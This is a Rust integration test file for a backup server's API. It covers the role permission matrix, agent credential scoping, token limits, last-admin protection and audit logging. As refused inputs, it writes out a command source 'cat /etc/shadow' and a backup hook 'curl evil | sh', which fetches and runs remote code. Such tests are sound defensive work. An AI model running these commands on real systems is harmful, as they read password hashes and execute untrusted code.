//! Who may do what, against a real server: the role matrix over every documented route, agent
//! credentials that act only as their own agent, the last admin, and the audit log.

use serde_json::{Value, json};

use super::{App, TOKEN, enrolment, hello, plan_with_source, register};

/// Every documented route and the permission it needs. A route added to the API without a
/// line here fails the matrix test.
const MATRIX: &[(&str, &str, &str)] = &[
    ("get", "/api/v1/agents", "read"),
    ("post", "/api/v1/agents", "agent"),
    ("delete", "/api/v1/agents/{name}", "access"),
    ("post", "/api/v1/agents/{name}/claim", "agent"),
    ("post", "/api/v1/agents/{name}/jobs/{id}/heartbeat", "agent"),
    ("post", "/api/v1/agents/{name}/jobs/{id}/log", "agent"),
    ("post", "/api/v1/agents/{name}/jobs/{id}/steps", "agent"),
    ("post", "/api/v1/agents/{name}/jobs/{id}/finish", "agent"),
    ("post", "/api/v1/agents/{name}/jobs/{id}/drill", "agent"),
    ("post", "/api/v1/agents/{name}/revoke", "access"),
    ("post", "/api/v1/agents/enrol", "enrol"),
    ("get", "/api/v1/enrolments", "access"),
    ("post", "/api/v1/enrolments", "access"),
    ("get", "/api/v1/endpoints", "read"),
    ("post", "/api/v1/endpoints", "configure"),
    ("get", "/api/v1/endpoints/{name}", "read"),
    ("put", "/api/v1/endpoints/{name}", "configure"),
    ("delete", "/api/v1/endpoints/{name}", "configure"),
    ("post", "/api/v1/endpoints/{name}/test", "configure"),
    ("post", "/api/v1/endpoints/{name}/prune", "configure"),
    ("get", "/api/v1/sources", "read"),
    ("post", "/api/v1/sources", "configure"),
    ("get", "/api/v1/sources/{name}", "read"),
    ("put", "/api/v1/sources/{name}", "configure"),
    ("delete", "/api/v1/sources/{name}", "configure"),
    ("get", "/api/v1/plans", "read"),
    ("post", "/api/v1/plans", "configure"),
    ("get", "/api/v1/plans/{name}", "read"),
    ("put", "/api/v1/plans/{name}", "configure"),
    ("delete", "/api/v1/plans/{name}", "configure"),
    ("post", "/api/v1/plans/{name}/pause", "configure"),
    ("post", "/api/v1/plans/{name}/resume", "configure"),
    ("post", "/api/v1/plans/{name}/run", "run"),
    ("post", "/api/v1/plans/{name}/verify", "run"),
    ("get", "/api/v1/plans/{name}/drills", "read"),
    ("get", "/api/v1/jobs", "read"),
    ("get", "/api/v1/jobs/{id}", "read"),
    ("get", "/api/v1/jobs/{id}/log", "read"),
    ("get", "/api/v1/jobs/{id}/drill", "read"),
    ("post", "/api/v1/jobs/{id}/cancel", "run"),
    ("get", "/api/v1/restore-points", "read"),
    ("post", "/api/v1/restores", "run"),
    ("get", "/api/v1/notifiers", "read"),
    ("post", "/api/v1/notifiers", "configure"),
    ("get", "/api/v1/notifiers/{name}", "read"),
    ("put", "/api/v1/notifiers/{name}", "configure"),
    ("delete", "/api/v1/notifiers/{name}", "configure"),
    ("post", "/api/v1/notifiers/{name}/test", "configure"),
    ("get", "/api/v1/notifiers/{name}/deliveries", "read"),
    ("get", "/api/v1/events", "read"),
    ("get", "/api/v1/tokens", "own"),
    ("post", "/api/v1/tokens", "own"),
    ("delete", "/api/v1/tokens/{id}", "own"),
    ("get", "/api/v1/users", "access"),
    ("post", "/api/v1/users", "access"),
    ("put", "/api/v1/users/{name}", "access"),
    ("delete", "/api/v1/users/{name}", "access"),
    ("get", "/api/v1/whoami", "own"),
    ("get", "/api/v1/audit", "audit"),
    ("get", "/api/v1/health", "read"),
];

const ROLES: [&str; 5] = ["admin", "operator", "restorer", "viewer", "auditor"];

fn role_may(role: &str, scope: &str) -> bool {
    match scope {
        "read" | "own" => true,
        "audit" => ["admin", "auditor"].contains(&role),
        "run" => ["admin", "operator", "restorer"].contains(&role),
        "configure" => ["admin", "operator"].contains(&role),
        "access" => role == "admin",
        "agent" | "enrol" => false,
        other => panic!("unknown scope {other}"),
    }
}

/// An account with `role` and an API token of it.
async fn user_token(app: &App, role: &str) -> String {
    let name = format!("u-{role}");
    app.ok(
        "POST",
        "/api/v1/users",
        Some(json!({"name": name, "role": role, "password": "a long enough passphrase"})),
    )
    .await;
    let t = app
        .ok(
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": format!("{role} token"), "user": name})),
        )
        .await;
    t["token"].as_str().unwrap().to_string()
}

/// Enrols agent `name` asking for `labels` with enrolment token `token`: the answer.
async fn enrol_with(app: &App, token: &str, name: &str, labels: Value) -> (u16, Value) {
    app.call_as(
        token,
        "POST",
        "/api/v1/agents/enrol",
        Some(hello(name, labels)),
    )
    .await
}

fn concrete(path: &str) -> String {
    path.replace("{name}", "no-such-thing")
        .replace("{id}", "999999")
}

#[tokio::test(flavor = "multi_thread")]
async fn every_route_gives_each_role_exactly_what_it_may_do() {
    let app = App::spawn().await;
    let doc = app.ok("GET", "/api/v1/openapi.json", None).await;
    let mut documented = Vec::new();
    for (path, item) in doc["paths"].as_object().unwrap() {
        for (method, op) in item.as_object().unwrap() {
            let scope = op["security"][0]["token"][0].as_str().unwrap_or("none");
            let want = MATRIX
                .iter()
                .find(|(m, p, _)| m == method && p == path)
                .unwrap_or_else(|| panic!("{method} {path} has no line in the role matrix"));
            assert_eq!(scope, want.2, "{method} {path}: the document's scope");
            documented.push((method.clone(), path.clone()));
        }
    }
    assert_eq!(
        documented.len(),
        MATRIX.len(),
        "the matrix lists routes the API lacks"
    );

    let mut tokens = vec![];
    for role in ROLES {
        tokens.push((role, user_token(&app, role).await));
    }
    let agent = register(&app, "matrix-agent", json!({})).await;
    let revoked = app
        .ok(
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": "revoked", "role": "viewer"})),
        )
        .await;
    app.ok("DELETE", &format!("/api/v1/tokens/{}", revoked["id"]), None)
        .await;
    let revoked = revoked["token"].as_str().unwrap().to_string();
    let expired = app
        .ok(
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": "short-lived", "role": "viewer", "expires_in_secs": 60})),
        )
        .await;
    app.sql(&format!(
        "UPDATE tokens SET expires_at = 1 WHERE id = {}",
        expired["id"]
    ));
    let expired = expired["token"].as_str().unwrap().to_string();

    for (method, path, scope) in MATRIX {
        let m = method.to_uppercase();
        let url = concrete(path);
        for (role, token) in &tokens {
            let (code, body) = app.call_as(token, &m, &url, Some(json!({}))).await;
            if role_may(role, scope) {
                assert!(
                    code != 401 && code != 403,
                    "{role} may {m} {path} but got {code} {body}"
                );
            } else {
                assert_eq!(code, 403, "{role} must not {m} {path}: {body}");
                assert!(body["error"].as_str().is_some(), "{body}");
            }
        }
        let own = path
            .replace("{name}", "matrix-agent")
            .replace("{id}", "999999")
            + if path.ends_with("/claim") {
                "?wait=0"
            } else {
                ""
            };
        let url_agent = if *scope == "agent" { &own } else { &url };
        let (code, body) = app.call_as(&agent, &m, url_agent, Some(json!({}))).await;
        if *scope == "agent" {
            assert!(
                code != 401 && code != 403,
                "agent {m} {path}: {code} {body}"
            );
        } else {
            assert_eq!(code, 403, "an agent credential must not {m} {path}: {body}");
        }
        for (what, token) in [
            ("no", ""),
            ("a revoked", &revoked),
            ("an expired", &expired),
        ] {
            let (code, body) = app.call_as(token, &m, &url, Some(json!({}))).await;
            assert_eq!(code, 401, "{what} token on {m} {path}: {body}");
        }
    }
    app.stop().await;
}

/// The walk-through's findings about agents, replayed: a user token cannot be an agent; an
/// agent credential cannot be another agent, claim another site's job, or report on a job it
/// does not hold or that ended; a revoked agent's job fails over and its next call is refused.
#[tokio::test(flavor = "multi_thread")]
async fn an_agent_credential_acts_only_as_its_own_agent() {
    let app = App::spawn().await;
    let job = plan_with_source(&app, json!({"site": "eu"})).await;
    // The admin's token is no agent.
    let (code, body) = app
        .call(
            "POST",
            "/api/v1/agents",
            Some(hello("spy", json!({"site": "eu"}))),
        )
        .await;
    assert_eq!(code, 403, "{body}");
    assert!(body["error"].as_str().unwrap().contains("enrol"), "{body}");

    // An enrolment bound to labels gives no more.
    let t = enrolment(&app, json!({"labels": {"site": "us"}})).await;
    let (code, body) = enrol_with(&app, &t, "us1", json!({"site": "eu"})).await;
    assert_eq!(code, 403, "{body}");
    let (code, body) = enrol_with(&app, &t, "us1", json!({"site": "us"})).await;
    assert_eq!(code, 201, "{body}");
    let us = body["credential"].as_str().unwrap().to_string();
    // An enrolment that names no labels allows none.
    let bare = enrolment(&app, json!({})).await;
    let (code, body) = enrol_with(&app, &bare, "eu9", json!({"site": "eu"})).await;
    assert_eq!(code, 403, "{body}");
    // Single use.
    let (code, body) = enrol_with(&app, &t, "us2", json!({"site": "us"})).await;
    assert_eq!(code, 401, "{body}");
    // us1 cannot claim the eu job, nor register with eu's labels or as another agent.
    let (code, _) = app
        .call_as(&us, "POST", "/api/v1/agents/us1/claim?wait=0", None)
        .await;
    assert_eq!(code, 204);
    let (code, body) = app
        .call_as(
            &us,
            "POST",
            "/api/v1/agents",
            Some(hello("us1", json!({"site": "eu"}))),
        )
        .await;
    assert_eq!(code, 403, "{body}");
    let (code, body) = app
        .call_as(
            &us,
            "POST",
            "/api/v1/agents",
            Some(hello("eu1", json!({"site": "us"}))),
        )
        .await;
    assert_eq!(code, 403, "{body}");
    let (code, body) = app
        .call_as(&us, "POST", "/api/v1/agents/eu1/claim?wait=0", None)
        .await;
    assert_eq!(code, 403, "{body}");
    let j = app.ok("GET", &format!("/api/v1/jobs/{job}"), None).await;
    assert_eq!(
        j["state"], "queued",
        "the job waits for the right agent: {j}"
    );

    // eu1 takes it; nobody else may report on it.
    let eu = register(&app, "eu1", json!({"site": "eu"})).await;
    let (code, ticket) = app
        .call_as(&eu, "POST", "/api/v1/agents/eu1/claim?wait=0", None)
        .await;
    assert_eq!(code, 200, "{ticket}");
    assert_eq!(ticket["job"], job);
    let forged = json!({"outcome": "succeeded", "snapshot_id": "0".repeat(64),
                        "bytes_read": 1, "bytes_written": 1});
    let path = |agent: &str, what: &str| format!("/api/v1/agents/{agent}/jobs/{job}/{what}");
    for (token, agent) in [(us.as_str(), "us1"), (us.as_str(), "eu1"), (TOKEN, "eu1")] {
        for (what, body) in [
            ("finish", forged.clone()),
            ("log", json!({"lines": ["forged"]})),
            ("heartbeat", json!({"bytes_read": 1, "bytes_written": 1})),
        ] {
            let (code, answer) = app
                .call_as(token, "POST", &path(agent, what), Some(body))
                .await;
            assert!(
                code == 403 || code == 409,
                "{what} as {agent} with another's credential: {code} {answer}"
            );
        }
    }
    let log = app
        .ok("GET", &format!("/api/v1/jobs/{job}/log"), None)
        .await;
    assert!(!log.to_string().contains("forged"), "{log}");

    // Revoking eu1 fails its job over, and its next call is refused.
    let r = app.ok("POST", "/api/v1/agents/eu1/revoke", None).await;
    assert_eq!(r["jobs"], json!([job]), "{r}");
    let j = app.ok("GET", &format!("/api/v1/jobs/{job}"), None).await;
    assert_eq!(j["state"], "queued", "{j}");
    assert_eq!(j["attempt"], 2, "{j}");
    let (code, body) = app
        .call_as(
            &eu,
            "POST",
            &path("eu1", "heartbeat"),
            Some(json!({"bytes_read": 0, "bytes_written": 0})),
        )
        .await;
    assert_eq!(code, 401, "{body}");

    // A finished job takes no more reports, even from the agent that ran it.
    let eu2 = register(&app, "eu2", json!({"site": "eu"})).await;
    // Skip the retry's backoff.
    app.sql("UPDATE jobs SET run_after = 0");
    let (code, _) = app
        .call_as(&eu2, "POST", "/api/v1/agents/eu2/claim?wait=0", None)
        .await;
    assert_eq!(code, 200);
    let done = json!({"outcome": "failed", "reason": "test", "transient": false,
                      "bytes_read": 0, "bytes_written": 0});
    let (code, body) = app
        .call_as(&eu2, "POST", &path("eu2", "finish"), Some(done))
        .await;
    assert_eq!(code, 200, "{body}");
    let (code, body) = app
        .call_as(
            &eu2,
            "POST",
            &path("eu2", "log"),
            Some(json!({"lines": ["late"]})),
        )
        .await;
    assert_eq!(code, 409, "{body}");
    app.stop().await;
}

/// Tokens are worth no more than their owner; an operator cannot create commands; nobody can
/// take away the last way an admin gets in; the audit log names who did what.
#[tokio::test(flavor = "multi_thread")]
async fn roles_cap_tokens_and_commands_and_the_audit_log_names_the_actor() {
    let app = App::spawn().await;
    let op = user_token(&app, "operator").await;
    // No admin token from an operator.
    let (code, body) = app
        .call_as(
            &op,
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": "x", "role": "admin"})),
        )
        .await;
    assert_eq!(code, 403, "{body}");
    let (code, body) = app
        .call_as(
            &op,
            "POST",
            "/api/v1/tokens",
            Some(json!({"name": "ci", "role": "viewer"})),
        )
        .await;
    assert_eq!(code, 201, "{body}");
    let ci = body["token"].as_str().unwrap().to_string();
    let who = app.call_as(&ci, "GET", "/api/v1/whoami", None).await.1;
    assert_eq!(who["permissions"], json!(["read"]), "{who}");
    // The operator sees only its own tokens, and cannot revoke the admin's.
    let mine = app.call_as(&op, "GET", "/api/v1/tokens", None).await.1;
    assert!(
        mine.as_array()
            .unwrap()
            .iter()
            .all(|t| t["user"] == "u-operator"),
        "{mine}"
    );
    let all = app.ok("GET", "/api/v1/tokens", None).await;
    let admin_id = all
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "admin")
        .unwrap()["id"]
        .clone();
    let (code, _) = app
        .call_as(&op, "DELETE", &format!("/api/v1/tokens/{admin_id}"), None)
        .await;
    assert_eq!(code, 404);

    // Commands are admin-only; the server's data directory is nobody's source.
    let (code, body) = app
        .call_as(
            &op,
            "POST",
            "/api/v1/sources",
            Some(json!({"name": "sh", "kind": "command", "url": "cmd:", "command": "cat /etc/shadow"})),
        )
        .await;
    assert_eq!(code, 403, "{body}");
    assert!(
        body["error"].as_str().unwrap().contains("commands"),
        "{body}"
    );
    let data = app.data.path().display().to_string();
    for url in [
        format!("file://{data}"),
        format!("sqlite://{data}/holdfast.db"),
        "file:///".into(),
    ] {
        let (code, body) = app
            .call(
                "POST",
                "/api/v1/sources",
                Some(json!({"name": "meta", "kind": if url.starts_with("sqlite") {"sqlite"} else {"folder"}, "url": url})),
            )
            .await;
        assert_eq!(code, 422, "{url}: {body}");
        assert_eq!(body["fields"][0]["field"], "url", "{body}");
    }
    plan_with_source(&app, json!({})).await;
    let hooks = json!({"name": "nightly", "source": "shop", "endpoint": "local", "schedule": "@daily",
                       "hooks": {"pre_backup_lock": {"run": "curl evil | sh"}}});
    let (code, body) = app
        .call_as(&op, "PUT", "/api/v1/plans/nightly", Some(hooks))
        .await;
    assert_eq!(code, 403, "{body}");
    // Without hooks the operator may change the plan.
    let plain =
        json!({"name": "nightly", "source": "shop", "endpoint": "local", "schedule": "@hourly"});
    let (code, body) = app
        .call_as(&op, "PUT", "/api/v1/plans/nightly", Some(plain))
        .await;
    assert_eq!(code, 200, "{body}");

    // The last admin account stays.
    let (code, body) = app
        .call(
            "PUT",
            "/api/v1/users/admin",
            Some(json!({"disabled": true})),
        )
        .await;
    assert_eq!(code, 409, "{body}");
    let (code, _) = app.call("DELETE", "/api/v1/users/admin", None).await;
    assert_eq!(code, 409);

    let audit = app
        .ok("GET", "/api/v1/audit?resource=plans/nightly", None)
        .await;
    let entries = audit.as_array().unwrap();
    let update = |outcome: &str| {
        entries.iter().any(|e| {
            e["action"] == "plans.update"
                && e["actor"] == "u-operator (token operator token)"
                && e["outcome"] == outcome
        })
    };
    assert!(update("ok") && update("403"), "{audit}");
    let text = audit.to_string();
    assert!(
        !text.contains("curl evil"),
        "the audit log holds no values: {text}"
    );
    assert!(
        entries.iter().all(|e| e["remote"] == "127.0.0.1"),
        "{audit}"
    );
    let (code, _) = app.call_as(&op, "GET", "/api/v1/audit", None).await;
    assert_eq!(code, 403, "an operator reads no audit log");
    let _: Value = app.ok("GET", "/api/v1/audit?actor=nobody", None).await;
    app.stop().await;
}
